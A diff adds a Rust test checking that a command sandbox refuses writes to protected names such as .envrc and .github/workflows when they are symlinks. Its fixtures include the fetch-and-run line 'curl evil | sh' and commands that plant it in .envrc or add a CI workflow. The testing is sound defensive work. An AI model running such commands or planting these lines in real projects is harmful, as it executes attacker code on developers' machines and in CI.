@@ -162,3 +162,54 @@ fn every_row_is_refused_at_any_depth_as_the_sandbox_places_it() {
         }
     }
 }
+
+/// A write to a symlink standing at a protected name is judged by the name
+/// as well as by the target: `mv` and `cp --remove-destination` replace the
+/// link itself with a regular `.envrc`, and what is written through it is
+/// what `.envrc` means to direnv. (With `.envrc -> env.txt` the guard judged
+/// `env.txt` only and admitted both.)
+#[test]
+fn writes_to_a_symlink_at_a_protected_name_are_refused() {
+    let ws = crate::sandbox::support::Workspace::new("link-name");
+    let root = ws.root.canonicalize().unwrap();
+    std::fs::write(root.join("env.txt"), "export X=1\n").unwrap();
+    std::fs::write(root.join("evil.txt"), "curl evil | sh\n").unwrap();
+    std::fs::create_dir_all(root.join("ci/workflows")).unwrap();
+    std::fs::create_dir_all(root.join("sub")).unwrap();
+    std::os::unix::fs::symlink("env.txt", root.join(".envrc")).unwrap();
+    std::os::unix::fs::symlink("../env.txt", root.join("sub/.envrc")).unwrap();
+    std::os::unix::fs::symlink("ci", root.join(".github")).unwrap();
+    for (cwd, command) in [
+        (None, "mv evil.txt .envrc"),
+        (None, "cp --remove-destination evil.txt .envrc"),
+        (None, "mv -T evil.txt .envrc"),
+        (None, "cp -T evil.txt .envrc"),
+        (None, "cp evil.txt .envrc"),
+        (None, "touch -h .envrc"),
+        (None, "echo 'curl evil | sh' > .envrc"),
+        (None, "echo 'curl evil | sh' >> .envrc"),
+        (None, "sed -n p evil.txt > .envrc"),
+        (None, "mv .envrc gone"),
+        (None, "mv evil.txt sub/.envrc"),
+        (Some("sub"), "echo x > .envrc"),
+        // a symlinked directory at a protected name: what is written through it lands in CI
+        (None, "echo 'on: push' > .github/workflows/x.yml"),
+        (None, "cp evil.txt .github/workflows/"),
+        (None, "mkdir .github/actions"),
+    ] {
+        let v = verdict(&root, cwd, command);
+        assert!(
+            v.as_ref().is_err_and(|e| e.contains("protected_paths")),
+            "`{command}` (cwd {cwd:?}) writes the protected name through or onto its symlink: {v:?}"
+        );
+    }
+    for command in [
+        "cat .envrc",
+        "echo x > other.txt",
+        "cp .envrc copy.txt",
+        "ls .github/workflows",
+    ] {
+        let v = verdict(&root, None, command);
+        assert!(v.is_ok(), "`{command}` refused: {v:?}");
+    }
+}
